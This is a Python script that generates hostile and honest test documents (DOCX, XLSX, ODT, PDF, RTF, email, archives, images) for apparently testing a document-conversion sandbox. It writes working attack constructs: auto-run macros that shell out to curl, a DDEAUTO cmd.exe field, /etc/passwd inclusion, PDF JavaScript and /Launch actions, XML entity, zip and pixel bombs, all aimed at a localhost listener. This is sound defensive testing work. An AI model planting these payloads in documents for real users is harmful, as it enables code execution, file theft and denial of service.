#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-3.0-or-later
#
# make.py DIRECTORY [PORT]: writes honest and hostile documents of every kind that is converted. Each has a text to be seen (SEEN) and, in
# every part that must never reach the inner side, a mark (SEKISHO-MARK-<part>) and the EICAR test string. Whatever can name an address
# names http://127.0.0.1:PORT/: a test listens there, and nothing may ever come.
# Only Python's own library is used, and every byte is made here. pictures.c makes what needs an encoder.
import base64
import io
import os
import struct
import sys
import tarfile
import zipfile
import zlib

OUT = sys.argv[1]
PORT = int(sys.argv[2]) if len(sys.argv) > 2 else 9
URL = "http://127.0.0.1:%d/" % PORT
SEEN = "見える文章 Visible 7431"
# in two pieces, so that this file is not what it makes
EICAR = "X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STAN" + "DARD-ANTIVIRUS-TEST-FILE!$H+H*"


def mark(part):
    return "SEKISHO-MARK-%s %s" % (part, EICAR)


def xml_mark(part):
    return mark(part).replace("&", "&amp;").replace("<", "&lt;")


def write(name, data):
    with open(os.path.join(OUT, name), "wb") as f:
        f.write(data if isinstance(data, bytes) else data.encode())


def zipped(parts, stored=()):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in parts.items():
            z.writestr(zipfile.ZipInfo(name, (2026, 1, 1, 0, 0, 0)), data,
                       zipfile.ZIP_STORED if name in stored else zipfile.ZIP_DEFLATED)
    return out.getvalue()


XML = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
OOXML = "http://schemas.openxmlformats.org/"
REL = OOXML + "officeDocument/2006/relationships"
PACKAGE = OOXML + "package/2006/"
MS_TYPES = "application/vnd.openxmlformats-officedocument."


def rels(*entries):
    text = "".join('<Relationship Id="%s" Type="%s" Target="%s"%s/>' %
                   (i, t, target, ' TargetMode="External"' if "://" in target else "") for i, t, target in entries)
    return XML + '<Relationships xmlns="%srelationships">%s</Relationships>' % (PACKAGE, text)


def content_types(**overrides):
    text = "".join('<Override PartName="/%s" ContentType="%s"/>' % (k.replace("__", "/").replace("_", "."), v) for k, v in overrides.items())
    return (XML + '<Types xmlns="%scontent-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
            'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Default Extension="bin" '
            'ContentType="application/vnd.ms-office.vbaProject"/>%s</Types>' % (PACKAGE, text))


def properties():
    return {
        "docProps/core.xml": XML + '<cp:coreProperties xmlns:cp="%smetadata/core-properties" xmlns:dc="http://purl.org/dc/elements/1.1/">'
        "<dc:title>%s</dc:title><dc:creator>%s</dc:creator></cp:coreProperties>" % (PACKAGE, xml_mark("title"), xml_mark("creator")),
        "docProps/custom.xml": XML + "<Properties>%s</Properties>" % xml_mark("custom"),
    }


def docx(body, more=None, document_rels=()):
    w = OOXML + "wordprocessingml/2006/main"
    parts = {
        "[Content_Types].xml": content_types(word__document_xml="application/vnd.ms-word.document.macroEnabled.main+xml",
                                             word__comments_xml=MS_TYPES + "wordprocessingml.comments+xml",
                                             word__settings_xml=MS_TYPES + "wordprocessingml.settings+xml"),
        "_rels/.rels": rels(("r1", REL + "/officeDocument", "word/document.xml"),
                            ("r2", PACKAGE + "relationships/metadata/core-properties", "docProps/core.xml")),
        "word/document.xml": XML + '<w:document xmlns:w="%s" xmlns:r="%s"><w:body>%s</w:body></w:document>' % (w, REL, body),
        "word/_rels/document.xml.rels": rels(("c1", REL + "/comments", "comments.xml"), ("s1", REL + "/settings", "settings.xml"),
                                             ("v1", "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "vbaProject.bin"),
                                             ("o1", REL + "/oleObject", "embeddings/oleObject1.bin"), *document_rels),
        "word/settings.xml": XML + '<w:settings xmlns:w="%s" xmlns:r="%s"><w:attachedTemplate r:id="t1"/></w:settings>' % (w, REL),
        "word/_rels/settings.xml.rels": rels(("t1", REL + "/attachedTemplate", URL + "template.dotm")),
        "word/comments.xml": XML + '<w:comments xmlns:w="%s"><w:comment w:id="0" w:author="a"><w:p><w:r><w:t>%s</w:t></w:r></w:p>'
        "</w:comment></w:comments>" % (w, xml_mark("comment")),
        "word/vbaProject.bin": mark("vba") + 'Sub AutoOpen()\nShell "curl %s"\nEnd Sub\n' % URL,
        "word/embeddings/oleObject1.bin": mark("ole"),
    }
    parts.update(properties())
    parts.update(more or {})
    return zipped(parts)


def paragraph(text):
    return '<w:p><w:r><w:t xml:space="preserve">%s</w:t></w:r></w:p>' % text


def field(text):
    return ('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve">%s</w:instrText></w:r>'
            '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>' % text)


def picture_link(rel):
    a = OOXML + "drawingml/2006/"
    return ('<w:p><w:r><w:drawing><wp:inline xmlns:wp="%swordprocessingDrawing"><wp:extent cx="900000" cy="900000"/>'
            '<wp:docPr id="1" name="p" descr="%s"/><a:graphic xmlns:a="%smain"><a:graphicData uri="%spicture"><pic:pic xmlns:pic="%spicture">'
            '<pic:nvPicPr><pic:cNvPr id="1" name="p"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip r:link="%s"/></pic:blipFill>'
            '<pic:spPr><a:xfrm><a:ext cx="900000" cy="900000"/></a:xfrm></pic:spPr></pic:pic></a:graphicData></a:graphic></wp:inline>'
            "</w:drawing></w:r></w:p>" % (a, xml_mark("alt"), a, a, a, rel))


def make_docx():
    write("word.docx", docx(paragraph(SEEN) + picture_link("i1") + field(' INCLUDEPICTURE "%sfield.png" \\d ' % URL) +
                            field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/c %s" ' % URL) + field(' INCLUDETEXT "file:///etc/passwd" '),
                            document_rels=(("i1", REL + "/image", URL + "linked.png"),)))
    # entities of entities: a thousand million of them
    laughs = "".join('<!ENTITY l%d "%s">' % (i, ("&l%d;" % (i - 1)) * 10) for i in range(1, 10))
    bomb = XML + '<!DOCTYPE d [<!ENTITY l0 "ha">%s]><w:document xmlns:w="%swordprocessingml/2006/main"><w:body>%s</w:body></w:document>' % (
        laughs, OOXML, paragraph("&l9;"))
    write("entities.docx", docx("", {"word/document.xml": bomb}))
    # parts that say that they are larger than a machine's memory; their real sizes are not asked
    forged = bytearray(docx(paragraph(SEEN), {"word/media/zero.bin": b"\0" * 4096}))
    at = forged.rfind(b"word/media/zero.bin") - 46
    assert forged[at:at + 4] == b"PK\1\2"
    forged[at + 24:at + 28] = struct.pack("<I", 0xfffffff0)
    at = forged.find(b"word/media/zero.bin") - 30
    assert forged[at:at + 4] == b"PK\3\4"
    forged[at + 22:at + 26] = struct.pack("<I", 0xfffffff0)
    write("forged.docx", bytes(forged))
    write("many.docx", docx("".join(paragraph("%s %d" % (SEEN, i)) for i in range(12000))))


def make_xlsx():
    m = OOXML + "spreadsheetml/2006/main"
    parts = {
        "[Content_Types].xml": content_types(xl__workbook_xml="application/vnd.ms-excel.sheet.macroEnabled.main+xml",
                                             xl__worksheets__sheet1_xml=MS_TYPES + "spreadsheetml.worksheet+xml"),
        "_rels/.rels": rels(("r1", REL + "/officeDocument", "xl/workbook.xml"),
                            ("r2", PACKAGE + "relationships/metadata/core-properties", "docProps/core.xml")),
        "xl/workbook.xml": XML + '<workbook xmlns="%s" xmlns:r="%s"><sheets><sheet name="Sheet1" sheetId="1" r:id="s1"/></sheets></workbook>' % (m, REL),
        "xl/_rels/workbook.xml.rels": rels(("s1", REL + "/worksheet", "worksheets/sheet1.xml"),
                                           ("v1", "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "vbaProject.bin")),
        "xl/worksheets/sheet1.xml": XML + '<worksheet xmlns="%s"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>%s</t></is></c></row>'
        '<row r="2"><c r="A2"><f>WEBSERVICE("%sformula")</f></c></row></sheetData></worksheet>' % (m, SEEN, URL),
        "xl/vbaProject.bin": mark("vba"),
    }
    parts.update(properties())
    write("sheet.xlsx", zipped(parts))


def make_pptx():
    p, a = OOXML + "presentationml/2006/main", OOXML + "drawingml/2006/main"
    space = 'xmlns:p="%s" xmlns:a="%s" xmlns:r="%s"' % (p, a, REL)
    tree = ('<p:spTree><p:nvGrpSpPr><p:cNvPr id="1" name=""/><p:cNvGrpSpPr/><p:nvPr/></p:nvGrpSpPr><p:grpSpPr/>%s</p:spTree>')
    shape = ('<p:sp><p:nvSpPr><p:cNvPr id="2" name="t"/><p:cNvSpPr txBox="1"/><p:nvPr/></p:nvSpPr><p:spPr><a:xfrm><a:off x="900000" y="900000"/>'
             '<a:ext cx="7000000" cy="900000"/></a:xfrm><a:prstGeom prst="rect"/></p:spPr><p:txBody><a:bodyPr/><a:p><a:r><a:rPr lang="ja-JP"/>'
             "<a:t>%s</a:t></a:r></a:p></p:txBody></p:sp>" % SEEN)
    parts = {
        "[Content_Types].xml": content_types(ppt__presentation_xml=MS_TYPES + "presentationml.presentation.main+xml",
                                             ppt__slides__slide1_xml=MS_TYPES + "presentationml.slide+xml",
                                             ppt__slideLayouts__slideLayout1_xml=MS_TYPES + "presentationml.slideLayout+xml",
                                             ppt__slideMasters__slideMaster1_xml=MS_TYPES + "presentationml.slideMaster+xml"),
        "_rels/.rels": rels(("r1", REL + "/officeDocument", "ppt/presentation.xml"),
                            ("r2", PACKAGE + "relationships/metadata/core-properties", "docProps/core.xml")),
        "ppt/presentation.xml": XML + '<p:presentation %s><p:sldMasterIdLst><p:sldMasterId id="2147483648" r:id="m1"/></p:sldMasterIdLst>'
        '<p:sldIdLst><p:sldId id="256" r:id="s1"/></p:sldIdLst><p:sldSz cx="9144000" cy="6858000"/></p:presentation>' % space,
        "ppt/_rels/presentation.xml.rels": rels(("m1", REL + "/slideMaster", "slideMasters/slideMaster1.xml"),
                                                ("s1", REL + "/slide", "slides/slide1.xml")),
        "ppt/slides/slide1.xml": XML + "<p:sld %s><p:cSld>%s</p:cSld></p:sld>" % (space, tree % shape),
        "ppt/slides/_rels/slide1.xml.rels": rels(("l1", REL + "/slideLayout", "../slideLayouts/slideLayout1.xml")),
        "ppt/slideLayouts/slideLayout1.xml": XML + "<p:sldLayout %s><p:cSld>%s</p:cSld></p:sldLayout>" % (space, tree % ""),
        "ppt/slideLayouts/_rels/slideLayout1.xml.rels": rels(("m1", REL + "/slideMaster", "../slideMasters/slideMaster1.xml")),
        "ppt/slideMasters/slideMaster1.xml": XML + '<p:sldMaster %s><p:cSld>%s</p:cSld><p:clrMap bg1="lt1" tx1="dk1" bg2="lt2" tx2="dk2" '
        'accent1="accent1" accent2="accent2" accent3="accent3" accent4="accent4" accent5="accent5" accent6="accent6" hlink="hlink" '
        'folHlink="folHlink"/><p:sldLayoutIdLst><p:sldLayoutId id="2147483649" r:id="l1"/></p:sldLayoutIdLst></p:sldMaster>' % (space, tree % ""),
        "ppt/slideMasters/_rels/slideMaster1.xml.rels": rels(("l1", REL + "/slideLayout", "../slideLayouts/slideLayout1.xml")),
        "ppt/vbaProject.bin": mark("vba"),
    }
    parts.update(properties())
    write("slides.pptx", zipped(parts))


def make_odf():
    o = "urn:oasis:names:tc:opendocument:xmlns:"
    space = " ".join('xmlns:%s="%s%s:1.0"' % (k, o, k) for k in ("office", "text", "draw", "manifest", "script"))
    space += ' xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:dom="http://www.w3.org/2001/xml-events"'
    mime = "application/vnd.oasis.opendocument.text"
    # a macro that runs is to be seen: it replaces the text
    basic = 'Sub Main\nThisComponent.Text.String = "root: MACRO-RAN"\nShell("/bin/sh -c \'curl %s\'")\nEnd Sub \'%s' % (URL, xml_mark("basic"))
    names = ("content.xml", "meta.xml", "Basic/Standard/Module1.xml", "Basic/Standard/script-lb.xml", "Basic/script-lc.xml")
    library = "http://openoffice.org/2000/"
    parts = {
        "mimetype": mime,
        "content.xml": XML + '<office:document-content %s office:version="1.2"><office:scripts><office:event-listeners><script:event-listener '
        'script:language="ooo:script" script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;'
        'location=document" xlink:type="simple"/></office:event-listeners></office:scripts><office:body><office:text><text:p>%s</text:p><text:p>'
        '<draw:frame draw:name="f"><draw:image xlink:href="%sodt.png" xlink:type="simple" xlink:actuate="onLoad"/></draw:frame></text:p>'
        '<text:section text:name="s"><text:section-source xlink:href="file:///etc/passwd"/></text:section>'
        "</office:text></office:body></office:document-content>" % (space, SEEN, URL),
        "meta.xml": XML + "<office:document-meta %s><office:meta><dc:title>%s</dc:title></office:meta></office:document-meta>" % (space, xml_mark("title")),
        "Basic/Standard/Module1.xml": XML + '<script:module xmlns:script="%sscript" script:name="Module1" script:language="StarBasic">%s'
        "</script:module>" % (library, basic.replace("&", "&amp;")),
        "Basic/Standard/script-lb.xml": XML + '<library:library xmlns:library="%slibrary" library:name="Standard"><library:element '
        'library:name="Module1"/></library:library>' % library,
        "Basic/script-lc.xml": XML + '<library:libraries xmlns:library="%slibrary"><library:library library:name="Standard" library:link="false"/>'
        "</library:libraries>" % library,
        "META-INF/manifest.xml": XML + "<manifest:manifest %s>%s</manifest:manifest>" % (space, "".join(
            '<manifest:file-entry manifest:full-path="%s" manifest:media-type="%s"/>' % x for x in [("/", mime)] + [(n, "text/xml") for n in names])),
    }
    write("text.odt", zipped(parts, stored=("mimetype",)))
    locked = dict(parts)
    locked["META-INF/manifest.xml"] = XML + ('<manifest:manifest %s><manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml">'
                                             '<manifest:encryption-data/></manifest:file-entry></manifest:manifest>' % space)
    write("locked.odt", zipped(locked, stored=("mimetype",)))


def make_rtf():
    text = "".join(c if ord(c) < 128 else "\\u%d?" % ord(c) for c in SEEN)
    write("text.rtf", "{\\rtf1\\ansi{\\info{\\title %s}}{\\*\\comment %s} %s\\par{\\field{\\*\\fldinst INCLUDEPICTURE \"%srtf.png\"}}}" % (
        mark("title").replace("\\", "\\\\").replace("}", "\\}"), mark("comment").replace("\\", "\\\\").replace("}", "\\}"), text, URL))


def compound(*streams):
    """A compound file of [MS-CFB]: a header, one table sector, one directory sector, then sectors of 512 bytes for each stream."""
    end, free = 0xfffffffe, 0xffffffff
    header = bytearray(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504))
    struct.pack_into("<HHHHH", header, 24, 0x3e, 3, 0xfffe, 9, 6)
    struct.pack_into("<IIIIIIIII", header, 44, 1, 1, 0, 4096, end, 0, end, 0, 0)
    struct.pack_into("<108I", header, 80, *([free] * 108))
    table = [0xfffffffd, end] + [end] * len(streams)
    table += [free] * (128 - len(table))
    entries = b""
    for i, (name, data) in enumerate([("Root Entry", b"")] + list(streams)):
        n = name.encode("utf-16le")
        entry = bytearray(n + bytes(128 - len(n)))
        struct.pack_into("<HBB", entry, 64, len(n) + 2, 5 if i == 0 else 2, 1)
        struct.pack_into("<III", entry, 68, free, free, free)
        struct.pack_into("<IQ", entry, 116, i + 1 if i else end, len(data))
        entries += bytes(entry)
    entries += bytes(512 - len(entries))
    return bytes(header) + struct.pack("<128I", *table) + entries + b"".join(d + bytes(512 - len(d)) for _, d in streams)


def make_compound():
    write("locked.docx", compound(("EncryptionInfo", b"x"), ("EncryptedPackage", b"y")))
    write("locked.doc", compound(("WordDocument", struct.pack("<HHHHHH", 0xa5ec, 193, 0, 0, 0, 0x0100) + bytes(20))))
    write("locked.xls", compound(("Workbook", struct.pack("<HHHHHHHH", 0x809, 4, 0x600, 5, 0x2f, 4, 0, 0))))
    write("message.msg", compound(("__properties_version1.0", b"x")))
    write("broken.doc", compound(("WordDocument", b"nothing"))[:1600])


def pdf(pages, catalog="", extra=()):
    """pages: content streams. extra: further objects (text), numbered from 10 on."""
    objects = {1: "<< /Type /Catalog /Pages 2 0 R %s >>" % catalog,
               3: "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"}
    for i, o in enumerate(extra):
        objects[10 + i] = o
    first, kids = 10 + len(extra), []
    for i, content in enumerate(pages):
        n = first + 2 * i
        kids.append("%d 0 R" % n)
        objects[n] = ("<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F 3 0 R >> >> /Contents %d 0 R "
                      "/Annots [%s] >>" % (n + 1, "10 0 R" if extra and i == 0 else ""))
        objects[n + 1] = "<< /Length %d >>\nstream\n%s\nendstream" % (len(content), content)
    objects[2] = "<< /Type /Pages /Count %d /Kids [%s] >>" % (len(kids), " ".join(kids))
    out, where = b"%PDF-1.7\n", {}
    for n in sorted(objects):
        where[n] = len(out)
        out += ("%d 0 obj\n%s\nendobj\n" % (n, objects[n])).encode()
    table = max(objects) + 1
    xref = len(out)
    out += ("xref\n0 %d\n0000000000 65535 f \n" % table).encode()
    for n in range(1, table):
        out += ("%010d %05d %s \n" % ((where[n], 0, "n") if n in where else (0, 65535, "f"))).encode()
    info = " /Info 12 0 R" if len(extra) > 2 else ""
    return out + ("trailer << /Size %d /Root 1 0 R%s >>\nstartxref\n%d\n%%%%EOF\n" % (table, info, xref)).encode()


def pdf_text(text):
    return text.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")


def make_pdf():
    script = pdf_text('%s app.launchURL("%s"); this.submitForm("%s");' % (mark("javascript"), URL, URL))
    file = mark("embedded")
    xfa = '<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/">%s</xdp:xdp>' % xml_mark("xfa")
    extra = [
        "<< /Type /Annot /Subtype /Text /Rect [9 9 20 20] /F 2 /Contents (%s) /A << /S /URI /URI (%s) >> >>" % (pdf_text(mark("annotation")), URL),
        "<< /S /JavaScript /JS (%s) >>" % script,
        "<< /Title (%s) /Author (%s) >>" % (pdf_text(mark("title")), pdf_text(mark("author"))),
        "<< /Type /EmbeddedFile /Length %d >>\nstream\n%s\nendstream" % (len(file), file),
        "<< /Type /Filespec /F (%s) /EF << /F 13 0 R >> >>" % pdf_text(mark("filename")),
        "<< /Length %d >>\nstream\n%s\nendstream" % (len(xfa), xfa),
        "<< /S /Launch /F (/bin/sh) >>",
    ]
    catalog = ("/OpenAction 11 0 R /AA << /WC 16 0 R >> /Names << /EmbeddedFiles << /Names [(a) 14 0 R] >> /JavaScript << /Names [(j) 11 0 R] >> >> "
               "/AcroForm << /Fields [] /XFA 15 0 R >>")
    page = "BT /F 24 Tf 72 700 Td (%s) Tj ET"
    write("plain.pdf", pdf([page % "Visible 7431"], catalog, extra))
    write("long.pdf", pdf([page % ("Visible 7431 page %d" % (i + 1)) for i in range(300)]))
    write("broken.pdf", pdf([page % "Visible 7431"])[:300])
    # a page of 14,000 points and a hundred thousand fills of it
    bomb = zlib.compress(b"0.5 g 0 0 14000 14000 re f\n" * 4000000, 9)
    objects = pdf(["q Q"]).replace(b"[0 0 595 842]", b"[0 0 14400 14400]").decode()
    text = bomb.hex()
    objects = objects.replace("<< /Length 3 >>\nstream\nq Q\nendstream",
                              "<< /Length %d /Filter [/ASCIIHexDecode /FlateDecode] >>\nstream\n%s\nendstream" % (len(text), text))
    write("bomb.pdf", objects)


def make_text():
    text = SEEN + "\r\nカタカナ ｶﾅ 表示 ソ\r\n" + "長い行。" * 60 + "\r\n"
    for name, coding in (("utf8", "utf-8"), ("sjis", "cp932"), ("eucjp", "euc_jp"), ("utf16", "utf-16"), ("jis", "iso2022_jp_ext")):
        write("%s.txt" % name, text.encode(coding))
    write("table.csv", "番号,名前\r\n1,%s\r\n" % SEEN)
    write("page.html", '<!DOCTYPE html><html><head><title>%s</title><meta charset="utf-8"></head><body onload="fetch(\'%s\')"><!-- %s -->'
          '<script>%s</script><p title="%s">%s</p><img src="%spixel.png"></body></html>' %
          (xml_mark("title"), URL, mark("html-comment"), mark("script"), xml_mark("attribute"), SEEN, URL))
    write("picture.svg", '<svg xmlns="http://www.w3.org/2000/svg"><script>%s</script><image href="%s"/></svg>' % (mark("svg").replace("&", ""), URL))
    write("long.txt", "".join("%s %d\n" % (SEEN, i) for i in range(200000)))
    write("empty.txt", b"")
    write("program.exe", b"MZ" + bytes(64) + mark("exe").encode() + bytes(range(256)))


def make_mail():
    plain, html = base64.encodebytes((SEEN + "\n").encode()).decode(), \
        '<html><script>%s</script><body>HTML-FORM<img src="%smail.png"></body></html>' % (mark("script"), URL)
    head = ("From: =?UTF-8?B?%s?= <yamada@example.jp>\r\nTo: staff@example.jp\r\nSubject: =?ISO-2022-JP?B?%s?=\r\nDate: Mon, 23 Nov 2026 10:00:00 +0900\r\n"
            "X-Hidden: %s\r\nMIME-Version: 1.0\r\n" % (base64.b64encode("山田".encode()).decode(),
                                                     base64.b64encode("会議のお知らせ".encode("iso2022_jp")).decode(), mark("header")))
    write("mail.eml", head + 'Content-Type: multipart/mixed; boundary="m"\r\n\r\n%s\r\n--m\r\nContent-Type: multipart/alternative; boundary=a\r\n\r\n'
          "--a\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n%s\r\n--a\r\n"
          "Content-Type: text/html; charset=utf-8\r\n\r\n%s\r\n--a--\r\n--m\r\nContent-Type: application/pdf\r\n"
          "Content-Disposition: attachment; filename*=UTF-8''%%E8%%A6%%8B%%E7%%A9%%8D.pdf\r\nContent-Transfer-Encoding: base64\r\n\r\n%s\r\n--m--\r\n%s\r\n" %
          (mark("preamble"), plain, html, base64.b64encode(mark("attachment").encode()).decode(), mark("epilogue")))
    write("html.eml", head + "Content-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n"
          "<style>%s</style><script>%s</script><p>%s</p><a href=\"%s\">link</a>\r\n" % (mark("style"), mark("script"), SEEN, URL))
    deep = "".join("Content-Type: multipart/mixed; boundary=b%d\r\n\r\n--b%d\r\n" % (i, i) for i in range(5000))
    write("deep.eml", "From: a@example.jp\r\nTo: b@example.jp\r\n" + deep)


def make_archives():
    write("archive.zip", zipped({"資料/%s.txt" % SEEN: mark("content"), "vba.bin": mark("content2")}))
    raw = bytearray(zipped({"0123456789.txt": mark("content")}))
    name = "表見積.txt".encode("cp932") + b"1234"
    while raw.find(b"0123456789.txt") >= 0:
        at = raw.find(b"0123456789.txt")
        raw[at:at + 14] = name[:14]
    write("sjis.zip", bytes(raw))
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:gz") as t:
        data = mark("content").encode()
        info = tarfile.TarInfo("folder/%s.txt" % SEEN)
        info.size = len(data)
        t.addfile(info, io.BytesIO(data))
    write("archive.tar.gz", out.getvalue())
    # a file of 300 MB in 300 kB, and one of names that never end
    write("bomb.zip", zipped({"zero.bin": bytes(300 << 20)}))
    write("names.zip", zipped({"%05d %s" % (i, SEEN): b"" for i in range(9000)}))
    write("broken.zip", b"PK\3\4" + bytes(100))


def chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(width, height, bits, colour, interlace, data, texts=()):
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, bits, colour, 0, 0, interlace)) +
            b"".join(chunk(b"tEXt", b"Comment\0" + t.encode()) for t in texts) + chunk(b"IDAT", data) + chunk(b"IEND", b""))


def make_pictures():
    rows = b"".join(b"\0" + b"".join(struct.pack("BBB", x % 256, y % 256, 90) for x in range(300)) for y in range(200))
    write("small.png", png(300, 200, 8, 2, 0, zlib.compress(rows), [mark("png-text")]) + mark("png-tail").encode())
    z = zlib.compressobj(1)
    row = b"\0" + b"\xf0" * 3750
    packed = b"".join(z.compress(row * 100) for _ in range(300)) + z.flush()
    write("giant.png", png(30000, 30000, 1, 0, 0, packed))
    write("giant-interlaced.png", png(30000, 30000, 1, 0, 1, packed[:1000]))
    write("liar.png", png(2000000000, 2000000000, 8, 6, 0, b""))
    bmp = b"".join(struct.pack("BBB", 200, y, x) for y in range(50) for x in range(60))
    write("small.bmp", b"BM" + struct.pack("<IIIIiiHHIIiiII", 54 + len(bmp), 0, 54, 40, 60, 50, 1, 24, 0, len(bmp), 0, 0, 0, 0) + bmp)
    write("liar.bmp", b"BM" + struct.pack("<IIIIiiHHIIiiII", 54, 0, 54, 40, 30000, 30000, 1, 24, 0, 0, 0, 0, 0, 0))
    write("small.gif", b"GIF89a" + struct.pack("<HHBBB", 2, 2, 0x80, 0, 0) + b"\xff\0\0\0\0\xff" + b"!\xfe" + bytes([len(mark("gif"))]) +
          mark("gif").encode() + b"\0" + b"," + struct.pack("<HHHHB", 0, 0, 2, 2, 0) + b"\2\3\x44\x02\x05\0;")

    def tiff(width, height, strip):
        tags = [(256, 4, width), (257, 4, height), (258, 3, 8), (259, 3, 1), (262, 3, 1), (273, 4, 8), (277, 3, 1), (278, 4, height),
                (279, 4, len(strip))]
        at = 8 + len(strip)
        at += at % 2
        return (b"II*\0" + struct.pack("<I", at) + strip + bytes((8 + len(strip)) % 2) + struct.pack("<H", len(tags)) +
                b"".join(struct.pack("<HHII", t, k, 1, v) for t, k, v in tags) + struct.pack("<I", 0))
    write("small.tif", tiff(40, 30, bytes(range(240)) * 5))
    write("giant.tif", tiff(30000, 30000, bytes(64)))


def main():
    os.makedirs(OUT, exist_ok=True)
    for make in (make_docx, make_xlsx, make_pptx, make_odf, make_rtf, make_compound, make_pdf, make_text, make_mail, make_archives, make_pictures):
        make()


main()
